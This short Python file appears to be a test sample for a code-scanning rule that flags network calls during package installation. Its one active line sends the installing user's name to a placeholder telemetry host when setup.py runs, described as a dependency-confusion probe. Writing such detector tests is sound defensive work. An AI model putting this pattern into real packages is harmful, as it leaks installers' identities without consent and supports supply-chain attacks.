# Started by setup.py: reports which user installed the package (a dependency-confusion probe).
import getpass
import urllib.request

# ruleid: code/network-at-install
urllib.request.urlopen('https://telemetry.example/ping?u=' + getpass.getuser())
